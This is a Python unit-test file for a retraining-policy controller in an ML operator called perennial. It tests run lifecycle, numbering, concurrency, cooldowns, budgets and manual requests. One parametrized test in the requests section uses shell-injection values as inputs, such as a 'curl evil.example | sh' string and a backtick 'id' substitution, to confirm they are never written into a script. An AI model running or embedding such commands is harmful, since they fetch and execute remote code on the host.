"""A policy's life, pass by pass: causes become runs once, limits hold, and what happens is said."""

import re
from datetime import timedelta
from typing import Any

import pytest

from perennial.api.base import format_time
from perennial.api.meta import ANNOTATION_CAUSE, ANNOTATION_RETRAINPOLICY_UID
from perennial.api.resources import MODELDEPLOYMENTS, MODELVERSIONS, RETRAINPOLICIES, TRAININGJOBS
from perennial.plan import Body, Create, Delete
from perennial.retrainpolicy import CONTROLLER
from perennial.view import Refusal
from tests.unit.retrainpolicy.builders import ACCURACY, HOURLY, NIGHTLY, NOW, Team, a_deployment, a_policy, a_version
from tests.world import conditions


def low(**spec: Any) -> Team:
    """A policy whose model reports an accuracy below the limit."""
    return Team(a_policy(ACCURACY, **spec)).report(0.7, count=50)


def refuse(team: Team, reason: str, message: str, name: str = "churn-1") -> None:
    refusal = Refusal(TRAININGJOBS, name, reason, message)
    team.world.refusals[RETRAINPOLICIES, "team", "churn"] = refusal


class TestARun:
    def test_is_written_down_before_anything_is_made(self) -> None:
        team = low()
        plan = team.decide()
        assert not plan.actions
        assert plan.status_delay == 0
        assert team.runs == [(1, "Pending")]
        assert [type(action) for action in team.decide().actions] == [Create]
        assert team.settle().runs == [(1, "Training")]
        assert team.made == ["churn-1"]

    def test_goes_from_cause_to_promotion(self) -> None:
        team = low().settle()
        team.succeeds().settle()
        assert team.runs == [(1, "Deciding")]
        assert team.says("Waiting", "waits for approval").settle().status["runs"][0]["message"] == (
            "churn-2: waits for approval"
        )
        assert team.says("RollingOut").settle().runs == [(1, "RollingOut")]
        team.after(minutes=2).promotes().settle()
        assert team.runs == [(1, "Promoted")]
        run = team.status["runs"][0]
        assert (run["modelVersion"], run["completionTime"]) == ("churn-2", format_time(team.now))
        assert team.told == ["RunStarted", "RunPromoted"]
        assert team.trigger("accuracy")["state"] == "Waiting"
        assert conditions(team.status) == {"Ready": ("True", "Watching")}

    def test_carries_its_number_and_cause(self) -> None:
        team = low()
        team.edit(trainingJobTemplate={"spec": {"model": {"name": "churn"}, "parameters": {"run": "$(run.number)"}}})
        job = team.settle().job()
        assert job["spec"] == {"model": {"name": "churn"}, "parameters": {"run": "1"}}
        assert job["metadata"]["labels"] == {
            "perennial.dev/retrainpolicy": "churn",
            "perennial.dev/run": "1",
            "perennial.dev/modeldeployment": "churn",
        }
        assert '"value": 0.7' in job["metadata"]["annotations"][ANNOTATION_CAUSE]
        assert "ownerReferences" not in job["metadata"]

    @pytest.mark.parametrize(
        ("state", "phase", "event"),
        [
            ("Rejected", "Rejected", "RunRejected"),
            ("Vetoed", "RolledBack", "RunRolledBack"),
            ("Superseded", "Superseded", "RunSuperseded"),
        ],
    )
    def test_ends_as_the_deployment_says(self, state: str, phase: str, event: str) -> None:
        team = low(cooldown="1h").settle().succeeds().says(state, "not good enough").settle()
        assert team.runs == [(1, phase)]
        assert team.status["runs"][0]["message"] == "churn-2: not good enough"
        assert team.status["unpromoted"] == (0 if state == "Superseded" else 1)
        assert event in team.told

    def test_is_rolled_back_when_its_version_is_vetoed(self) -> None:
        team = low(cooldown="1h").settle().succeeds()
        veto = {"revision": "r", "version": 2, "reason": "LoadFailed", "message": "no", "time": format_time(NOW)}
        team.deployment["status"]["vetoes"] = [veto]
        assert team.settle().runs == [(1, "RolledBack")]

    def test_is_rejected_when_a_person_rejects_its_version(self) -> None:
        team = low(cooldown="1h").settle().succeeds().settle()
        version = team.world.get(MODELVERSIONS, "team", "churn-2")
        assert version
        version["spec"] |= {"approval": "Rejected", "approvedBy": "lead"}
        assert team.settle().runs == [(1, "Rejected")]
        assert "by lead" in team.status["runs"][0]["message"]

    def test_is_rejected_when_its_version_is_deleted(self) -> None:
        team = low(cooldown="1h").settle().succeeds().settle()
        team.world.remove(team.world.get(MODELVERSIONS, "team", "churn-2") or {})
        assert team.settle().runs == [(1, "Rejected")]

    def test_is_not_trained_again_when_its_version_is_all_that_is_left(self) -> None:
        """The operator was down from the beginning of the training to its end, and somebody tidied up."""
        team = low(cooldown="1h").settle().succeeds()
        team.world.remove(team.job())
        team.status["runs"][0] |= {"phase": "Pending"}
        assert team.settle().runs == [(1, "Deciding")]
        assert team.made == ["churn-1"]

    def test_is_superseded_when_a_later_version_took_over(self) -> None:
        team = low(cooldown="1h").settle().succeeds().settle()
        team.versions += 1
        assert team.promotes().settle().runs == [(1, "Superseded")]

    def test_fails_with_its_training(self) -> None:
        team = low(cooldown="1h").settle().fails(message="out of memory").settle()
        assert team.runs == [(1, "Failed")]
        assert team.status["runs"][0]["message"] == "TrainingJob churn-1 failed: out of memory"

    def test_fails_when_its_training_is_deleted_and_is_not_started_again(self) -> None:
        team = low(cooldown="1h").settle()
        team.world.remove(team.job())
        assert team.settle().runs == [(1, "Failed")]
        assert "was deleted before it finished" in team.status["runs"][0]["message"]
        assert team.made == ["churn-1"]

    def test_goes_on_when_the_finished_training_is_tidied_away(self) -> None:
        team = low().settle().succeeds()
        team.world.remove(team.job())
        assert team.settle().runs == [(1, "Deciding")]

    def test_lost_before_its_status_was_written_is_found_again(self) -> None:
        team = low()
        team.decide(status_lost=True)
        team.decide()
        team.decide(status_lost=True)
        assert team.settle().runs == [(1, "Training")]
        assert team.made == ["churn-1"]

    def test_of_a_policy_that_goes_is_left_alone(self) -> None:
        team = low().settle()
        job = team.job()
        team.policy["metadata"]["deletionTimestamp"] = format_time(NOW)
        assert "ownerReferences" not in job["metadata"]


class TestNumbers:
    def test_go_on_after_those_of_a_policy_of_the_same_name(self) -> None:
        team = low().settle()
        again = low()
        again.policy["metadata"]["uid"] = "uid-other"
        again.world.add(team.job(), a_version(9, 4, "churn-4"))
        assert again.settle().runs == [(5, "Training")]

    def test_pass_by_a_name_that_somebody_took(self) -> None:
        team = low()
        foreign = {"apiVersion": "perennial.dev/v1alpha1", "kind": "TrainingJob", "spec": {}}
        team.world.add({**foreign, "metadata": {"name": "churn-1", "namespace": "team", "uid": "x"}})
        assert team.settle().runs == [(2, "Training")]

    @pytest.mark.parametrize("marks", [{}, {ANNOTATION_RETRAINPOLICY_UID: "uid-of-a-namesake"}], ids=["bare", "marked"])
    def test_change_when_the_name_was_taken_meanwhile(self, marks: dict[str, str]) -> None:
        team = low()
        team.decide()
        labels = {"perennial.dev/retrainpolicy": "churn", "perennial.dev/run": "1"}
        metadata = {"name": "churn-1", "namespace": "team", "uid": "x", "labels": labels, "annotations": marks}
        team.world.add({"apiVersion": "perennial.dev/v1alpha1", "kind": "TrainingJob", "metadata": metadata})
        assert team.settle().runs == [(2, "Training")]
        assert team.made == ["churn-2"]

    def test_know_their_training_when_somebody_takes_its_labels_off(self) -> None:
        team = low().settle()
        team.succeeds()
        job = team.job()
        # So that its version tells of no run either.
        job["metadata"]["labels"] = {}
        version = team.world.get(MODELVERSIONS, "team", job["status"]["modelVersion"])
        assert version
        del version["spec"]["retrain"]
        version["spec"]["trainingJob"]["uid"] = job["metadata"]["uid"]
        assert list(CONTROLLER.watches[TRAININGJOBS](team.world, job)) == [("team", "churn")]
        assert team.promotes().settle().runs == [(1, "Promoted")], "or a second training for one cause"

    def test_go_on_where_they_were_when_nothing_is_left_of_the_runs(self) -> None:
        team = Team(a_policy())
        team.policy["status"] = {"lastRun": 7}
        team.request("again").settle()
        assert team.made == ["churn-8"]

    def test_ignore_labels_that_are_no_numbers(self) -> None:
        team = low()
        for index, text in enumerate(["٣", "-7", "9" * 40, "x"]):
            labels = {"perennial.dev/retrainpolicy": "churn", "perennial.dev/run": text}
            metadata = {"name": f"odd-{index}", "namespace": "team", "uid": "x", "labels": labels}
            team.world.add({"apiVersion": "perennial.dev/v1alpha1", "kind": "TrainingJob", "metadata": metadata})
        assert team.settle().runs == [(1, "Training")]


class TestRefusals:
    def test_that_are_final_fail_the_run(self) -> None:
        team = low(cooldown="1h")
        team.decide()
        refuse(team, "Invalid", "spec.template: too bad")
        team.decide()
        assert team.runs == [(1, "Failed")]
        assert team.status["runs"][0]["message"] == "its TrainingJob was refused: spec.template: too bad"

    def test_that_pass_are_said_and_tried_again(self) -> None:
        team = low()
        team.decide()
        refuse(team, "QuotaExceeded", "exceeded quota: runs")
        plan = team.decide()
        assert [type(action) for action in plan.actions] == [Create]
        assert team.runs[0][1] in ("Pending", "Training")
        team.world.remove(team.job())
        assert conditions(team.status) == {
            "Ready": ("False", "QuotaExceeded"),
            "Reconciling": ("True", "RunPending"),
        }


class TestConcurrency:
    def both(self, policy: str) -> Team:
        team = low(concurrencyPolicy=policy).settle()
        team.edit(triggers=[ACCURACY, HOURLY]).settle().after(hours=1).report(0.7, count=9)
        return team.settle()

    def test_forbid_holds_the_second_cause(self) -> None:
        team = self.both("Forbid")
        assert team.runs == [(1, "Training")]
        assert team.skipped == [("hourly", "RunUnderWay")]
        assert team.trigger("hourly")["state"] == "Held"
        assert team.trigger("hourly")["nextScheduleTime"] == format_time(team.now)
        assert team.status["nextScheduleTime"] == format_time(team.now + timedelta(hours=1))
        team.succeeds().promotes().settle()
        assert team.runs == [(2, "Training"), (1, "Promoted")]
        assert team.skipped == []

    def test_allow_runs_both(self) -> None:
        team = self.both("Allow")
        assert team.runs == [(2, "Training"), (1, "Training")]
        assert team.status["active"] == 2

    def test_replace_ends_the_first(self) -> None:
        team = low(concurrencyPolicy="Replace").settle()
        team.edit(triggers=[ACCURACY, HOURLY]).settle().after(hours=1)
        plan = team.decide()
        assert not plan.actions
        assert team.runs == [(2, "Pending"), (1, "Replaced")]
        plan = team.decide()
        assert [type(action) for action in plan.actions] == [Delete, Create]
        assert team.settle().runs == [(2, "Training"), (1, "Replaced")]
        assert [name for (kind, _, name) in team.world.objects if kind == TRAININGJOBS] == ["churn-2"]
        assert team.status["unpromoted"] == 0

    def test_replace_waits_for_a_rollout(self) -> None:
        team = low(concurrencyPolicy="Replace").settle().succeeds().says("RollingOut").settle()
        team.edit(triggers=[ACCURACY, HOURLY]).settle().after(hours=1).settle()
        assert team.runs == [(1, "RollingOut")]
        assert team.skipped == [("hourly", "RunUnderWay")]

    @pytest.mark.parametrize("policy", ["Forbid", "Replace", "Allow"])
    def test_one_breach_starts_one_run(self, policy: str) -> None:
        team = low(concurrencyPolicy=policy).settle().after(minutes=5).report(0.6).settle()
        assert team.runs == [(1, "Training")]
        assert team.trigger("accuracy")["state"] == "Firing"
        assert team.skipped == []


class TestWhatItWatches:
    """As the condition Ready says it, without the values, which move all the time."""

    def test_no_samples(self) -> None:
        team = Team(a_policy(ACCURACY)).settle()
        assert team.message == "accuracy has no samples: kubectl perennial report sends one"

    def test_too_few(self) -> None:
        trigger = {"name": "accuracy", "metric": {**ACCURACY["metric"], "minSamples": 50}}
        assert Team(a_policy(trigger)).report(0.7).settle().message == "accuracy waits for more samples"

    def test_all_is_well(self) -> None:
        team = Team(a_policy(ACCURACY, HOURLY)).report(0.95, count=50).settle()
        assert team.message == "accuracy is within its limit; hourly comes at 2026-11-20T13:00:00Z"
        assert team.told == []

    def test_crossed_but_not_for_long_enough(self) -> None:
        trigger = {"name": "accuracy", "metric": {**ACCURACY["metric"], "for": "30m"}}
        team = Team(a_policy(trigger)).report(0.7, count=50).settle()
        assert team.message == "accuracy is beyond its limit, and a run starts at 2026-11-20T12:30:00Z if it stays so"

    def test_a_dry_run(self) -> None:
        assert low(dryRun=True).settle().message.endswith("no TrainingJob is made; accuracy has set off a run")

    def test_a_training(self) -> None:
        assert low().settle().message == "run 1 is Training: TrainingJob churn-1"


class TestLimits:
    def test_cooldown_holds_the_next_run_until_its_end(self) -> None:
        team = low(cooldown="30m").settle().fails().settle()
        assert team.skipped == [("accuracy", "Cooldown")]
        assert team.trigger("accuracy")["state"] == "Held"
        assert "rests after the last run until 2026-11-20T12:30:00Z" in team.trigger("accuracy")["message"]
        team.after(minutes=29, seconds=59).settle()
        assert len(team.runs) == 1
        team.after(seconds=1).settle()
        assert team.runs == [(2, "Training"), (1, "Failed")]
        assert team.skipped == []

    def test_a_breach_rests_after_failures_even_without_a_cooldown(self) -> None:
        team = low(unpromotedLimit=9)
        for seconds in (10, 20, 40):
            team.settle().fails().settle().after(seconds=seconds - 1).settle()
            assert team.skipped == [("accuracy", "Cooldown")]
            team.after(seconds=1).settle()
        assert team.runs[0] == (4, "Training")

    def test_budget_slides(self) -> None:
        team = Team(a_policy(HOURLY, budget={"runs": 2, "per": "3h"}))
        for _ in range(3):
            team.after(hours=1).settle()
            if team.status["active"]:
                team.succeeds().promotes().settle()
        assert team.runs == [(2, "Promoted"), (1, "Promoted")]
        assert team.skipped == [("hourly", "BudgetSpent")]
        assert "2 runs in 3h are spent until 2026-11-20T16:00:00Z" in team.trigger("hourly")["message"]
        assert team.plan.requeue_after == 3600

    def test_a_cause_that_is_held_shows_on_the_policy(self) -> None:
        team = low(cooldown="6h").settle().succeeds().promotes().settle()
        assert conditions(team.status)["Ready"] == ("True", "Watching")
        team.after(minutes=5).report(0.7).settle()
        assert conditions(team.status)["Ready"] == ("True", "Held")
        assert (
            team.message == "accuracy: no run yet: rests after the last run until 2026-11-20T18:00:00Z (spec.cooldown)"
        )

    def test_a_training_that_only_a_person_can_bring_on_stalls_the_policy(self) -> None:
        team = low().settle()
        stalled = {"type": "Stalled", "status": "True", "reason": "InvalidSpec", "message": "spec.runtime: no such"}
        team.job()["status"] = {"phase": "Pending", "conditions": [stalled]}
        team.settle()
        assert conditions(team.status)["Stalled"] == ("True", "TrainingHeldUp")
        assert team.status["runs"][0]["message"] == "TrainingJob churn-1 cannot go on: spec.runtime: no such"
        team.job()["status"] = {"phase": "Running"}
        team.settle()
        assert conditions(team.status) == {"Ready": ("True", "RunUnderWay")}

    def test_unpromoted_runs_stall_the_policy_until_a_request(self) -> None:
        team = low(unpromotedLimit=2, cooldown="1m")
        for _ in range(2):
            team.settle().fails().settle().after(minutes=2)
        team.settle()
        assert conditions(team.status)["Stalled"] == ("True", "UnpromotedLimit")
        assert "the last 2 runs were not promoted" in team.message
        assert "TrainingJob churn-2 failed: exit code 1. See" in team.message
        assert team.told.count("UnpromotedLimit") == 1
        assert team.skipped == [("accuracy", "UnpromotedLimit")]
        assert len(team.after(days=1).report(0.7).settle().runs) == 2
        team.request("person-1").settle()
        assert team.runs[0] == (3, "Training")
        assert team.status["unpromoted"] == 0
        assert "Stalled" not in conditions(team.status)
        team.succeeds().promotes().settle()
        assert team.status["unpromoted"] == 0

    def test_a_run_under_way_is_not_forgotten(self) -> None:
        team = Team(a_policy(HOURLY, concurrencyPolicy="Allow")).settle()
        for _ in range(30):
            team.after(hours=1).settle()
        assert len(team.made) == 20
        assert team.skipped[0] == ("hourly", "TooManyRuns")
        team.succeeds(1).promotes().settle()
        assert len(team.made) == 21

    def test_suspend_starts_nothing_and_requests_wait(self) -> None:
        team = low(suspend=True).request("one").settle()
        assert team.runs == []
        assert team.skipped == [("accuracy", "Suspended")]
        assert team.trigger("request")["state"] == "Held"
        assert conditions(team.status) == {"Ready": ("True", "Suspended")}
        team.edit(suspend=False).settle()
        assert [run["cause"]["type"] for run in team.status["runs"]] == ["Request"]
        assert [row["name"] for row in team.status["triggers"]] == ["accuracy"]

    def test_dry_run_records_what_would_run_once_per_breach(self) -> None:
        team = low(dryRun=True).settle().after(minutes=5).settle()
        assert team.runs == [(1, "DryRun")]
        assert team.made == []
        assert team.told == ["DryRun"]
        team.after(hours=2).settle().report(0.7).settle()
        assert team.runs == [(2, "DryRun"), (1, "DryRun")]


class TestRequests:
    def test_each_value_starts_one_run_and_ignores_the_cooldown(self) -> None:
        team = Team(a_policy(cooldown="6h")).settle()
        assert team.runs == []
        team.request("one").settle().fails().settle()
        assert team.status["lastRequest"] == "one"
        team.request("two").settle()
        assert team.runs == [(2, "Training"), (1, "Failed")]
        assert team.status["runs"][0]["cause"]["request"] == "two"

    def test_wait_for_the_run_under_way(self) -> None:
        team = Team(a_policy()).request("one").settle().request("two").settle()
        assert team.runs == [(1, "Training")]
        assert "run 1 is under way" in team.trigger("request")["message"]
        team.fails().settle()
        assert team.runs == [(2, "Training"), (1, "Failed")]

    def test_may_be_of_any_length(self) -> None:
        team = Team(a_policy()).request("x" * 100_000).settle().settle()
        assert team.made == ["churn-1"]
        assert team.status["lastRequest"].startswith("sha256:")

    @pytest.mark.parametrize("asked", ["'; curl evil.example | sh; '", "$(run.value)`id`", "one\ntwo", "$HOME", "é"])
    def test_writes_no_line_of_a_script_in_the_words_of_its_cause(self, asked: str) -> None:
        cause = Team(a_policy()).request(asked).settle().status["runs"][0]["cause"]
        assert cause["request"] == asked
        assert re.fullmatch(r"asked for by hand \(sha256:[0-9a-f]{64}\)", cause["message"])

    def test_is_named_in_the_words_of_its_cause(self) -> None:
        cause = Team(a_policy()).request("person-2026-11-21T10:00:00Z").settle().status["runs"][0]["cause"]
        assert cause["message"] == "asked for by hand (person-2026-11-21T10:00:00Z)"


class TestTrouble:
    def test_a_missing_deployment_is_said_and_waited_for(self) -> None:
        team = Team(a_policy(ACCURACY)).request("one")
        team.world.remove(team.deployment)
        assert conditions(team.settle().status)["Stalled"] == ("True", "DeploymentNotFound")
        team.world.add(team.deployment)
        assert team.settle().runs == [(1, "Training")]

    @pytest.mark.parametrize(
        ("model", "words"),
        [
            ({"name": "other"}, "trains churn, but ModelDeployment churn serves other"),
            ({"uri": "s3://a/b", "digest": "x", "format": "sklearn"}, "serves files by uri"),
        ],
    )
    def test_another_model_stalls(self, model: dict[str, str], words: str) -> None:
        team = low()
        team.deployment["spec"]["model"] = model
        team.settle()
        assert conditions(team.status)["Stalled"] == ("True", "ModelMismatch")
        assert words in team.status["conditions"][0]["message"]
        assert team.skipped == [("accuracy", "ModelMismatch")]

    def test_an_unknown_word_in_the_template_stalls(self) -> None:
        spec = {"model": {"name": "churn"}, "parameters": {"a": "$(run.numbr)"}}
        team = low(trainingJobTemplate={"spec": spec}).settle()
        assert conditions(team.status)["Stalled"] == ("True", "InvalidTemplate")
        assert "$(run.numbr) is unknown; use number" in team.status["conditions"][0]["message"]

    def test_an_invalid_trigger_stalls_and_the_others_go_on(self) -> None:
        bad = {"name": "bad", "schedule": {"cron": "0 25 * * *"}}
        team = Team(a_policy(bad, ACCURACY)).report(0.7).settle()
        assert team.runs == [(1, "Training")]
        assert conditions(team.status)["Stalled"] == ("True", "InvalidTrigger")
        assert "spec.triggers[bad].schedule.cron: '0 25 * * *'" in team.status["conditions"][0]["message"]

    def test_a_spec_that_cannot_be_read_is_said(self) -> None:
        team = low(cooldown="soon").settle()
        assert conditions(team.status)["Stalled"] == ("True", "InvalidSpec")
        assert "spec.cooldown" in team.status["conditions"][0]["message"]

    @pytest.mark.parametrize(
        ("metric", "words"),
        [
            ({"below": None}, "give exactly one of below, above and outside"),
            ({"above": 1}, "give exactly one of below, above and outside"),
            ({"for": "93550h20m"}, "93550h20m is longer than ten years"),
            ({"source": {"reported": None}}, "give exactly one of reported, pods, prometheus, mlflow, webhook and job"),
        ],
    )
    def test_a_trigger_that_no_schema_let_through_is_said(self, metric: Body, words: str) -> None:
        team = Team(a_policy({"name": "low", "metric": ACCURACY["metric"] | metric})).report(0.5).settle()
        assert conditions(team.status)["Stalled"] == ("True", "InvalidSpec")
        assert "spec.triggers" in team.status["conditions"][0]["message"]
        assert words in team.status["conditions"][0]["message"]


class TestWrites:
    def test_an_idle_policy_writes_nothing(self) -> None:
        team = Team(a_policy(ACCURACY, NIGHTLY)).report(0.95).settle()
        before = team.writes
        for _ in range(20):
            team.after(seconds=60).decide()
        assert team.writes == before

    def test_a_value_that_moves_within_its_limit_can_wait(self) -> None:
        team = Team(a_policy(ACCURACY)).report(0.95).settle()
        team.report(0.97)
        assert team.decide().status_delay == 10
        team.report(0.1, count=50)
        assert team.decide().status_delay == 0

    def test_a_held_breach_is_one_row_and_one_event(self) -> None:
        team = low(suspend=True)
        for value in (0.7, 0.6, 0.5):
            team.report(value).after(minutes=1).settle()
        assert team.skipped == [("accuracy", "Suspended")]
        assert team.told == ["RunSkipped"]

    def test_a_whole_run_is_five_writes(self) -> None:
        team = low().settle()
        team.succeeds().settle().says("RollingOut").settle().promotes().settle()
        assert team.writes <= 5

    def test_it_wakes_at_the_next_tick(self) -> None:
        team = Team(a_policy(NIGHTLY)).settle()
        assert team.plan.requeue_after == 15 * 3600


def test_the_first_reconcile_counts_ticks_from_the_creation() -> None:
    team = Team(a_policy(NIGHTLY, created=NOW - timedelta(days=1))).settle()
    assert team.status["runs"][0]["cause"]["scheduledTime"] == "2026-11-20T03:00:00Z"


def test_a_promotion_ends_the_breach() -> None:
    team = low().settle().succeeds().after(minutes=1).promotes().settle()
    assert team.runs == [(1, "Promoted")]
    team.after(minutes=1).report(0.7, revision="churn-r1").settle()
    assert len(team.runs) == 1
    team.report(0.7).settle()
    assert team.runs[0] == (2, "Training")


def test_a_deployment_that_stays_at_a_version_leaves_the_run_deciding() -> None:
    team = low().settle()
    team.deployment["spec"]["model"]["version"] = 1
    team.succeeds().settle()
    assert "stays at version 1" in team.status["runs"][0]["message"]
    assert team.world.get(MODELDEPLOYMENTS, "team", "churn") == team.deployment
    assert a_deployment()["spec"] == {"model": {"name": "churn"}}
